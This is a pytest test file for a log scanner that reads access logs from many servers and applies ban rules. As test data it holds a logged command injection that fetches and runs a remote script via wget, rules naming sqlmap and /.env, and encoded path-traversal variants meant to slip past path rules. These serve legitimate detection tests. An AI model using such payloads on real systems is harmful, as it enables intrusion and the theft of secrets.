"""Lines of access logs as servers and shippers write them: what is read of each, through `gobanfast scan`."""

from __future__ import annotations

import asyncio
import hashlib
import importlib
import json
import sys
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("typer", reason="the command line needs the extra cli")

from typer.testing import CliRunner, Result

from gobanfast.batch import log_fields
from gobanfast.batch.layouts import client
from gobanfast.cli.app import app

NET = "{id: bad, when: {prefix: 203.0.113.0/24}, action: ban}"
TOOL = "{id: tool, when: {header: {user-agent: {contains: sqlmap}}}, action: ban}"
ENV = "{id: env, when: {path: /.env}, action: ban}"
CGI = '{id: cgi, when: {path: "/cgi-bin/**"}, action: ban}'
AT = "[27/Jan/2024:10:03:34 +0000]"
UTF8_BOM = "\ufeff"


def scan(tmp_path: Path, log: bytes | str, rule: str, *options: str, status: int = 0) -> Result:
    """What `scan` of one log under one rule leaves behind."""
    (tmp_path / "rules.yaml").write_text(f"rules:\n- {rule}\n")
    (tmp_path / "a.log").write_bytes(log if isinstance(log, bytes) else log.encode())
    command = ["scan", str(tmp_path / "a.log"), "-r", str(tmp_path / "rules.yaml"), *options]
    result = CliRunner().invoke(app, command, env={"COLUMNS": "200", "TERM": "dumb"})
    assert status == result.exit_code, result.output
    return result


def summary(tmp_path: Path, log: bytes | str, rule: str, *options: str) -> dict[str, Any]:
    found = json.loads(scan(tmp_path, log, rule, *options, "--json").stdout)
    assert isinstance(found, dict)
    return found


def combined(target: str, *, client: str = "203.0.113.9", user: str = "-", agent: str = '"-" "M"') -> str:
    return f'{client} - {user} {AT} "GET {target} HTTP/1.1" 200 5 {agent}\n'


# ---- layouts


@pytest.mark.parametrize(
    ("log", "options"),
    [
        (combined("/", user="jane doe", agent='"-" "M/5.0 (X11; Linux)"') + 3 * combined("/"), []),
        (combined("/", user="a, b; c") + 3 * combined("/"), []),
        (combined("/?a=1,2;3") * 4, []),
        ("# nginx, rotated; 27 Jan\n" + 4 * combined("/"), []),
        ("\n\0\0" + "garbage,with;commas\n" + 4 * combined("/"), []),
        ("host.example,x\n" + 4 * combined("/", client="203.0.113.9"), ["-f", "combined"]),
        (4 * ("www.example.com:443 " + combined("/")), []),  # Apache's vhost_combined
        (4 * ("www.example.com " + combined("/")), ["--field", "2"]),
        (4 * ("Dec  9 19:00:00 web nginx: " + combined("/")), []),
        (4 * ("<190>Dec 19 19:00:00 web nginx: " + combined("/")), []),
        (4 * 'INFO:     203.0.113.9:54321 - "GET / HTTP/1.1" 200 OK\n', []),  # uvicorn
        (4 * combined("/", client="203.0.113.9:54321"), []),
        (4 * combined("/", client="[2001:db8::1]:443") + 4 * combined("/", client="203.0.113.9"), []),
        ("ip,status\n" + 4 * "203.0.113.9,200\n", []),
        ("who;code\n" + 4 * "203.0.113.9;200\n", []),
        (4 * "203.0.113.9\n", []),
    ],
)
def test_most_lines_tell_the_layout(tmp_path: Path, log: str, options: list[str]) -> None:
    """One odd line, wherever it is, a head in front of each line or a port changes nothing: four clients are banned."""
    assert 4 == summary(tmp_path, log, NET, *options)["actions"]["ban"]


def test_fields_are_separated_by_runs_of_blanks(tmp_path: Path) -> None:
    """As in awk: RFC 3164 pads the day of the month with a blank, and both lines have the client in field 6."""
    log = "Dec  9 19:00:00 web nginx: " + combined("/") + "Dec 10 19:00:00 web nginx: " + combined("/")

    for options in (["-f", "combined", "--field", "6"], []):
        found = summary(tmp_path, log, NET, *options)
        assert ({"ban": 2}, 0) == (found["actions"], found["bad"])
        assert [{"format": "combined", "client": "field 6"}] == [
            {key: row[key] for key in ("format", "client")} for row in found["logs"]
        ]


@pytest.mark.parametrize(
    ("log", "lines"),
    [
        ('{"remote_addr":"203.0.113.9"}\r\n{"remote_addr":"203.0.113.9"}\r\n', 2),
        ("ip,status\n203.0.113.9,200\n", 1),
        ("ip,status\r\n203.0.113.9,200\r\n\ufeffip,status\r\n203.0.113.9,200\r\n", 2),  # joined files
        (2 * combined("/"), 2),
        ("203.0.113.9\n203.0.113.9\n", 2),
    ],
)
def test_a_byte_order_mark_is_no_text(tmp_path: Path, log: str, lines: int) -> None:
    """Logs of any layout are read with a UTF-8 BOM as without."""
    for text in (UTF8_BOM + log, log):
        found = summary(tmp_path, text, NET)
        assert (lines, {"ban": lines}, 0) == (found["lines"], found["actions"], found["bad"])


@pytest.mark.parametrize("coding", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig"])
@pytest.mark.parametrize("packer", ["none", "gzip", "bz2", "lzma", "zstd"])
def test_packed_and_wide_logs(tmp_path: Path, packer: str, coding: str) -> None:
    """Whatever a log is packed by, and if it is UTF-16: its lines are those of the plain one."""
    lines = 40 * combined("/a") + combined("/b", client="198.51.100.1")
    data = lines.encode(coding)
    if packer == "zstd":
        data = pytest.importorskip("compression.zstd" if sys.version_info >= (3, 14) else "backports.zstd").compress(
            data
        )
    elif packer != "none":
        data = importlib.import_module(packer).compress(data)

    assert {"ban": 40, "allow": 1} == summary(tmp_path, data, NET)["actions"]


@pytest.mark.parametrize("packer", ["gzip", "bz2", "lzma"])
def test_a_stream_cut_short_is_one_fault(tmp_path: Path, packer: str) -> None:
    """What comes before the cut is read."""
    lines = "".join(combined(f"/{hashlib.sha256(str(number).encode()).hexdigest()}") for number in range(20_000))
    data = importlib.import_module(packer).compress(lines.encode())

    found = summary(tmp_path, data[: len(data) * 9 // 10], NET)

    assert 1 == found["bad"]
    assert "stream is damaged or cut short" in found["faults"][0]["why"]
    assert 5_000 < found["decided"] < 20_000


@pytest.mark.parametrize(
    ("log", "words"),
    [
        (b"PK\3\4" + bytes(40), "packed by zip"),
        (b"name,code\nx,1\n", "--format"),
        (b"from,to\n192.0.2.1,203.0.113.9\n", "columns 1 and 2 hold addresses"),
    ],
)
def test_what_cannot_be_read_says_what_to_do(tmp_path: Path, log: bytes, words: str) -> None:
    """Status 2 and one message that names the log and the way out."""
    result = scan(tmp_path, log, NET, status=2)

    assert words in result.stderr
    assert "a.log: " in result.stderr


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("203.0.113.9:443", "203.0.113.9"),
        ("[2001:db8::1]:443", "2001:db8::1"),
        ("[2001:db8::1]", "2001:db8::1"),
        ("2001:db8::1", "2001:db8::1"),
        ("::ffff:203.0.113.9", "::ffff:203.0.113.9"),
        ("198.51.100.1, 203.0.113.9", "203.0.113.9"),
        ('"198.51.100.1,203.0.113.9:80"', "203.0.113.9"),
        ("unknown, 203.0.113.9", "203.0.113.9"),
        ("203.0.113.9, unknown", "unknown"),
        ("203.0.113.9, ", "203.0.113.9"),
        (", ,", ", ,"),
        ("web-1:443", "web-1:443"),
        ("", ""),
    ],
)
def test_the_client_in_a_field(text: str, address: str) -> None:
    """A port goes; of a list the last counts; what is no address stays, to be shown as a fault."""
    assert address == client(text)


def test_no_line_is_lost(tmp_path: Path) -> None:
    """Every line that is not empty of meaning is decided or a fault, whatever is in its address."""
    fields = ["203.0.113.9", ",", '""', "[]", ", ,", "203.0.113.9,", "[", ":80", '"', "x"]
    for made in (
        [combined("/", client=field) for field in fields],
        [json.dumps({"remote_addr": field}) + "\n" for field in fields],
        ["ip;x\n", *(f"{field.replace(chr(34), '')};1\n" for field in fields)],
    ):
        found = summary(tmp_path, "".join(made), NET)
        assert len(fields) == found["lines"] == found["decided"] + found["bad"]
        assert found["decided"] >= 1


def test_trusted_proxies_of_a_list_are_passed_over(tmp_path: Path) -> None:
    """From the right, the first address that `trust:` does not cover is the client; never one further left."""
    rule = NET + "\ntrust: [10.0.0.0/8]"
    for listed, action in (
        ("203.0.113.9, 10.0.0.1, 10.0.0.2", "ban"),
        ("203.0.113.9, 192.0.2.1, 10.0.0.2", "allow"),
        ("203.0.113.9, 192.0.2.1", "allow"),
        ("192.0.2.1,203.0.113.9", "ban"),
        ("10.0.0.7, 10.0.0.1", "allow"),
    ):
        assert {action: 1} == summary(tmp_path, combined("/", client=listed), rule)["actions"], listed
        line = json.dumps({"remote_addr": listed})
        assert {action: 1} == summary(tmp_path, line, rule)["actions"], listed


# ---- requests


@pytest.mark.parametrize(
    "log",
    [
        combined("/cgi-bin/x?cmd=wget http://h/ -O y; sh y"),
        combined("/cgi-bin/x y z"),
        combined(r"/cgi-bin/x?a=\"b\" c"),
        combined(r"/cgi-bin/\xd0\xb0?q=\x22"),
        combined('/cgi-bin/x?a="b" HTTP/1.1" 200'),  # a server that escapes nothing
        combined("http://h.example/cgi-bin/x"),
        json.dumps({"ip": "203.0.113.9", "request": 'GET /cgi-bin/x?a="b c HTTP/1.1'}),
        json.dumps({"ip": "203.0.113.9", "method": "GET", "url": "https://www.example.com:8443/cgi-bin/x?y=1"}),
        '{"remote_addr":"203.0.113.9","request":"GET /cgi-bin/\\x22 HTTP/1.1"}',
        json.dumps({"ClientIP": "203.0.113.9", "httpRequest": {"requestUrl": "http://h.example/cgi-bin/x"}}),
        "ip,request\n203.0.113.9,GET /cgi-bin/x y HTTP/1.1\n",
        "ip;method;url\n203.0.113.9;GET;http://h.example/cgi-bin/\n",
        'INFO:     203.0.113.9:54321 - "GET /cgi-bin/x HTTP/1.1" 404 Not Found\n',
    ],
)
def test_the_target_of_a_request(tmp_path: Path, log: str) -> None:
    """It goes from the first blank to the last before HTTP/, escapes undone; scheme and host are no part of a path."""
    found = summary(tmp_path, log, CGI)

    assert {"ban": 1} == found["actions"]
    assert [] == found["unjudged"]


@pytest.mark.parametrize(
    ("request_line", "target"),
    [
        ("GET /a HTTP/1.1", b"/a"),
        ("GET  /a b   HTTP/2", b"/a b"),
        ("GET /a HTTP/1.1 HTTP/1.1", b"/a HTTP/1.1"),
        ("GET /a?b=1 HTTP/1.0", b"/a"),
        ("OPTIONS * HTTP/1.1", b"*"),
        ("GET /a", b"/a"),
        ("GET http://h.example/a?b", b"/a"),
        ("GET /a b", None),
        ("GET a", None),
        ("get /a", None),
        ("GET HTTP/1.1", None),
        ("\x16\x03\x01", None),
        ("GET /" + " " * 100_000 + "x", None),
        ("", None),
    ],
)
def test_a_request_line(request_line: str, target: bytes | None) -> None:
    """Method, blank, target, blank, version; or a plain target without a version, as HTTP/0.9 asks and servers serve;
    anything else is no request. Long runs of blanks cost nothing more."""
    assert target == dict(log_fields._split(request_line, "latin-1")).get(b":path")


@pytest.mark.parametrize(
    ("text", "meant"),
    [
        (r"\"a\\b\"", '"a\\b"'),
        (r"\x41\x22\xff\t\n", 'A"\xff\t\n'),
        (r"/..\..\x", "/..\\..\\x"),  # of a server that escapes nothing
        ("plain", "plain"),
    ],
)
def test_escapes(text: str, meant: str) -> None:
    """What Apache and nginx escape is read as it was sent."""
    assert meant == log_fields.unescaped(text)


@pytest.mark.parametrize(
    ("log", "action", "unjudged"),
    [
        (f'203.0.113.9 - - {AT} "GET / HTTP/1.1" 200 5\n', "allow", ["tool"]),
        (combined("/", agent='"-" "-"'), "allow", []),
        (combined("/", agent='"-" "sqlmap"'), "ban", []),
        ('{"client_ip":"203.0.113.9","request":{"uri":"/x","headers":{"user-agent":"sqlmap"}}}', "ban", []),
        ('{"client_ip":"203.0.113.9","request":{"uri":"/x","headers":{"USER-AGENT":["sqlmap"]}}}', "ban", []),
        ('{"client_ip":"203.0.113.9","req":{"url":"/x","headers":{"User-Agent":"sqlmap"}}}', "ban", []),
        ('{"client_ip":"203.0.113.9","request":{"uri":"/x","headers":{"Host":["a"]}}}', "allow", []),
        ('{"client_ip":"203.0.113.9","request_User-Agent":"sqlmap"}', "ban", []),
        ('{"client_ip":"203.0.113.9","user_agent":{"original":"sqlmap"}}', "ban", []),
        ('{"client_ip":"203.0.113.9","user_agent":null}', "allow", []),
        ('{"client_ip":"203.0.113.9","path":"/"}', "allow", ["tool"]),
        ("ip,path\n203.0.113.9,/\n", "allow", ["tool"]),
        ("ip,User-Agent\n203.0.113.9,sqlmap\n", "ban", []),
        ("ip,user_agent\n203.0.113.9,-\n", "allow", []),
        ("203.0.113.9\n", "allow", ["tool"]),
    ],
)
def test_a_rule_is_judged_where_the_log_has_what_it_asks(
    tmp_path: Path, log: str, action: str, unjudged: list[str]
) -> None:
    """A layout without user agents leaves the rule unjudged; "-" is a header that was absent; names have no case."""
    found = summary(tmp_path, log, TOOL)

    assert ({action: 1}, unjudged) == (found["actions"], found["unjudged"])


def test_a_rule_is_judged_in_every_log_or_said_not_to_be(tmp_path: Path) -> None:
    """Of two logs one has no user agents: the rule is named; within one log the lines are counted."""
    other = tmp_path / "common.log"
    other.write_text(f'203.0.113.9 - - {AT} "GET / HTTP/1.1" 200 5\n')
    found = summary(tmp_path, 3 * combined("/"), TOOL, str(other))

    assert (["tool"], {"tool": 1}) == (found["unjudged"], found["unjudged_lines"])

    found = summary(tmp_path, 3 * combined("/") + other.read_text(), TOOL)
    assert ([], {"tool": 1}) == (found["unjudged"], found["unjudged_lines"])


def test_any_header_of_a_log_that_keeps_all(tmp_path: Path) -> None:
    """Rules on any header are judged where an object holds all of them; an absent one is absent."""
    rule = "{id: bare, when: {header: {accept: absent}}, action: ban}"
    for headers, action in (({"accept": "*/*"}, "allow"), ({"host": "a"}, "ban")):
        line = json.dumps({"ip": "203.0.113.9", "request": {"headers": headers}})
        found = summary(tmp_path, line, rule)
        assert ({action: 1}, []) == (found["actions"], found["unjudged"])


@pytest.mark.parametrize(
    ("text", "seconds"),
    [
        ("27/Jan/2024:10:03:34 +0000", 1706349814.0),
        ("27/Jan/2024:12:03:34 +0200", 1706349814.0),
        ("2024-01-27T10:03:34Z", 1706349814.0),
        ("2024-01-27T11:03:34.5+01:00", 1706349814.5),
        ("2024-01-27 10:03:34", 1706349814.0),
        ("2024-01-27T10:03:34.123456789Z", 1706349814.123456),
        ("1706349814.25", 1706349814.25),
        ("1706349814000", 1706349814.0),
        ("1706349814000000", 1706349814.0),
        ("1706349814000000000", 1706349814.0),
        ("0.123", None),
        ("31/Foo/2024:10:03:34 +0000", None),
        ("-", None),
        ("nan", None),
        ("", None),
    ],
)
def test_times(text: str, seconds: float | None) -> None:
    """Times as logs write them, in Unix seconds; anything else is none."""
    found = log_fields.seconds_of(text)

    assert seconds == (None if found is None else pytest.approx(found))


# ---- what is shown


def test_clients_are_counted_for_each_action(tmp_path: Path) -> None:
    """One client that met two actions has a row for each, with the lines of that action only."""
    log = "".join(combined(path) for path in ("/", "/", "/", "/.env", "/.env"))

    assert [("allow", None, 3), ("ban", "env", 2)] == [
        (row["action"], row["rule"], row["lines"]) for row in summary(tmp_path, log, ENV)["clients"]
    ]


def test_a_reason_stands_where_it_was_given(tmp_path: Path) -> None:
    """Lines without a rule: the reason of those that could not be read is not that of the others."""
    log = combined("/a") * 2 + combined("a:443")
    shown = [line.split() for line in scan(tmp_path, log, ENV).stdout.splitlines() if "no rule matched" in line]
    rows = {row["action"]: row["reason"] for row in summary(tmp_path, log, ENV)["rules"]}

    assert [["allow", "2", "66.7%"], ["challenge", "1", "33.3%", "malformed-path"]] == [
        row[row.index(action) :] for row, action in zip(shown, ("allow", "challenge"), strict=True)
    ]
    assert {"allow": None, "challenge": "malformed-path"} == rows


# ---- readings of a path

ADMIN = "{id: closed, when: {path: [/.env, /admin, /admin/**]}, action: ban}"
OPEN = "{id: open, when: {path: /public/**}, action: allow}\n- {id: rest, when: {path: /**}, action: challenge}"


@pytest.mark.parametrize(
    "target",
    [
        "/%2eenv", "/.e%6ev", "//.env", "/x/../.env", "/./admin/x", "/admin%2fx", "/%61dmin", "/admin/%2e%2e/admin/x",
        "/a%25dmin/../admin", "http://www.example.com/%2eenv?x=1", "/public/..%2fadmin", "/admin;v=1/x", "/ADMIN",
        "/public/x", "/", "/public/a%20b",
    ],
)  # fmt: skip
@pytest.mark.parametrize("rule", [ADMIN, OPEN])
def test_a_log_is_decided_as_the_live_request(tmp_path: Path, target: str, rule: str) -> None:
    """What the ASGI middleware answers to a request is what a scan says of its line, in each layout."""
    logs = [
        combined(target),
        json.dumps({"ip": "203.0.113.9", "request": f"GET {target} HTTP/1.1", "user_agent": "M"}),
        f"ip,method,uri\n203.0.113.9,GET,{target}\n",
    ]
    action = live(tmp_path, target, rule)

    assert [{action: 1}] * 3 == [summary(tmp_path, log, rule)["actions"] for log in logs]


def live(tmp_path: Path, target: str, rule: str) -> str:
    """The action of the ASGI middleware on a request for `target`, as uvicorn hands it over."""
    from urllib.parse import unquote, urlsplit

    from gobanfast import Engine, Ruleset
    from gobanfast.frontends.asgi import Gobanfast

    found: list[str] = []

    async def app(scope: Any, receive: Any, send: Any) -> None:
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body"})

    async def nothing(*_: Any) -> None:
        return None

    raw = urlsplit(target).path if target.startswith("http:") else target.partition("?")[0]
    guard: Any = Gobanfast(app, Engine(Ruleset.from_text(f"rules:\n- {rule}\n")),
                           on_decision=lambda decision, _: found.append(decision.action))  # fmt: skip
    scope = {
        "type": "http", "method": "GET", "path": unquote(raw), "raw_path": raw.encode(), "query_string": b"",
        "headers": [(b"user-agent", b"M")], "client": ("203.0.113.9", 1), "http_version": "1.1",
    }  # fmt: skip
    asyncio.run(guard(scope, nothing, nothing))
    return found[0]


@pytest.mark.parametrize(("target", "action"), [("/app/admin/x", "ban"), ("/admin/x", "ban"), ("/other/x", "allow")])
def test_a_mount_is_taken_away(tmp_path: Path, target: str, action: str) -> None:
    """--mount: a restrictive rule holds with the mount or without it; on every command that takes a path."""
    assert {action: 1} == summary(tmp_path, combined(target), ADMIN, "--mount", "/app")["actions"]

    rules = str(tmp_path / "rules.yaml")
    shown = (
        CliRunner()
        .invoke(app, ["check", "203.0.113.9", "-r", rules, "--path", target, "--mount", "/app", "--json"])
        .stdout
    )
    assert action == json.loads(shown)["action"]


BALANCED = {
    "haproxy": "Feb  6 12:14:14 lb haproxy[9]: 203.0.113.9:33317 [06/Feb/2026:12:14:14.655] http-in st/s1 10/0/30/69/109 200 "  # noqa: E501
    '2750 - - ---- 1/1/1/1/0 0/0 {1wt.eu} {} "GET /.env?x HTTP/1.1"',
    "alb": "h2 2026-07-02T22:23:00.186641Z app/lb/50dc 203.0.113.9:48160 10.0.0.66:9000 0.0 0.0 0.0 200 200 5 257 "
    '"GET https://a.example:443/.env?x HTTP/2.0" "sqlmap/1" ECDHE TLSv1.2 arn:aws "Root=1-58" "-" "-" 1',
    "caddy": '{"level":"info","request":{"remote_ip":"203.0.113.9","method":"GET","host":"a","uri":"/.env?x",'
    '"headers":{"User-Agent":["sqlmap/1"]}},"status":200}',
    "traefik": '{"ClientAddr":"203.0.113.9:5","ClientHost":"203.0.113.9","RequestMethod":"GET","RequestPath":"/.env",'
    '"request_User-Agent":"sqlmap/1"}',
    "envoy": '{"downstream_remote_address":"203.0.113.9:4711","method":"GET","path":"/.env","user_agent":"sqlmap/1"}',
    "kong": '{"client_ip":"203.0.113.9","request":{"method":"GET","uri":"/.env","headers":{"user-agent":"sqlmap/1"}}}',
    "ecs": '{"source":{"ip":"203.0.113.9"},"url":{"original":"/.env"},"http":{"request":{"method":"GET"}},'
    '"user_agent":{"original":"sqlmap/1"}}',
    "gcp": '{"httpRequest":{"remoteIp":"203.0.113.9","requestMethod":"GET","requestUrl":"https://a/.env","userAgent":"sqlmap"}}',
    "azure": '{"properties":{"clientIp":"203.0.113.9","httpMethod":"GET","requestUri":"/.env","userAgent":"sqlmap"}}',
    "waf": '{"httpRequest":{"clientIp":"203.0.113.9","httpMethod":"GET","uri":"/.env"}}',
    "uvicorn": 'INFO:     203.0.113.9:50000 - "GET /.env HTTP/1.1" 200 OK',
    "docker": json.dumps({"log": combined("/.env"), "stream": "stdout", "time": "2026-11-02T00:00:05Z"}),
    "cri": "2026-11-02T00:00:05.123456789Z stdout P 203.0.113.9 - - [x]\n"
    '2026-11-02T00:00:05.123456789Z stdout F  "GET /.env HTTP/1.1" 200 5',
}


@pytest.mark.parametrize("server", BALANCED)
def test_lines_of_servers(tmp_path: Path, server: str) -> None:
    """Address and path of a line, as each server writes it; the user agent, where it has one."""
    line = BALANCED[server] + "\n"

    assert {"ban": 1} == summary(tmp_path, line, NET)["actions"]
    assert {"ban": 2} == summary(tmp_path, line * 2, ENV)["actions"]
    if "sqlmap" in line:
        assert {"ban": 1} == summary(tmp_path, line, TOOL)["actions"]


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ('$http_x_real [$time_local] "$request" $status "$http_user_agent" $remote_addr', 'x [t] "GET /.env HTTP/1.1" 200 "sqlmap \\"x" 203.0.113.9'),  # noqa: E501
        ("$remote_addr|$request_method|$request_uri|$http_user_agent", "203.0.113.9|GET|/.env?a|sqlmap"),
        ('%{X}i %h %l %u %t \\"%r\\" %>s %b \\"%{Referer}i\\" \\"%{User-Agent}i\\"', 'a 203.0.113.9 - - [t z] "GET /.env HTTP/1.1" 200 5 "-" "sqlmap"'),  # noqa: E501
    ],
)  # fmt: skip
def test_text_of_a_format(tmp_path: Path, text: str, line: str) -> None:
    """A log_format of nginx and a LogFormat of Apache say where things are."""
    lines = f"{line}\n{line}\nanother\n"

    for rule in (NET, ENV, TOOL):
        found = json.loads(scan(tmp_path, lines, rule, "--format", text, "--json").stdout)
        assert ({"ban": 2}, 1) == (found["actions"], found["bad"])
    assert "has no client address" in scan(tmp_path, line, NET, "--format", "$request", status=2).stderr
    assert "nor the text of a log_format" in scan(tmp_path, line, NET, "--format", "xml", status=2).stderr.replace(
        "\n", " "
    )
